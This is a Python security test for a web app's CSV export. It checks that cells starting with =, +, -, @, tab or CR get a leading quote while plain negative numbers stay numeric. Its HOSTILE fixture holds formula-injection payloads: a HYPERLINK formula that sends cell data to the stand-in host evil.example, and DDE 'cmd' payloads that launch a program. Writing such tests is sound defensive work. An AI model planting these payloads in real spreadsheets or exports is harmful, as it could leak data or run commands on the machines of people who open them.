"""CSV formula injection (issue 14, finding 6; OWASP "CSV Injection"): a value starting with
``= + - @``, tab or CR went verbatim into the CSV export, and a spreadsheet opening it ran it
as a formula. Such a value now gets a leading ``'``, unless it is a plain number: ``-3`` and
``-1.5`` stay numbers (docs/import-export.md)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from cli import main
from renderers.tabular.writers import csv_cell
from tests.security.test_text_at_the_door import DEC, NUM, REPEATS, TEXT, saved, seeded, web
from tests.webapp.conftest import Web

__all__ = ["seeded", "web"]

HOSTILE = {
    "1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "2": "+1+cmd|' /C calc'!A0",
    "3": "-2+3+cmd|' /C calc'!A0",
    "4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "5": "-3",
    "6": "-1.5e3",
    "7": "plain = text",
}
NEUTRALISED = {
    "1": "'" + HOSTILE["1"],
    "2": "'" + HOSTILE["2"],
    "3": "'" + HOSTILE["3"],
    "4": "'" + HOSTILE["4"],
    "5": "-3",
    "6": "-1.5e3",
    "7": "plain = text",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+41", "+41"),
        ("+4 1", "'+4 1"),
        ("-", "'-"),
        ("-3", "-3"),
        ("-1.5", "-1.5"),
        ("-.5", "-.5"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
    ],
)
def test_csv_cells_neutralise_formulas_and_keep_numbers(value: str | None, cell: str) -> None:
    assert csv_cell(value) == cell


def test_formulas_in_entered_values_are_neutralised_in_the_csv_export(
    web: Web, tmp_path: Path
) -> None:
    assert saved(web, {TEXT: HOSTILE["1"], NUM: "-3", DEC: "-1.5"}) == 303
    inv = web.client("inv_a")
    url = REPEATS.format(event="1")
    inv.get(url)
    rows = {f"IG.R[{k}].IT.NOTE": v for k, v in HOSTILE.items()}
    assert inv.post(url, {**rows, "expected_version": "0"}).status_code == 303
    out = tmp_path / "csv"
    result = CliRunner().invoke(main, ["export", "csv", "-o", str(out), "--db", web.url])
    assert result.exit_code == 0, result.output
    with (out / "t.csv").open(newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert (row["TEXT"], row["NUM"], row["DEC"]) == (NEUTRALISED["1"], "-3", "-1.5")
    with (out / "r.csv").open(newline="", encoding="utf-8") as fh:
        notes = sorted(row["NOTE"] for row in csv.DictReader(fh))
    assert notes == sorted(NEUTRALISED.values())
    dm = web.client("dm")
    dm.get("/exports")
    r = dm.post("/exports/csv", {})
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.get_data())) as archive:
        text = archive.read("t.csv").decode()
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["TEXT"], row["NUM"], row["DEC"]) == (NEUTRALISED["1"], "-3", "-1.5")
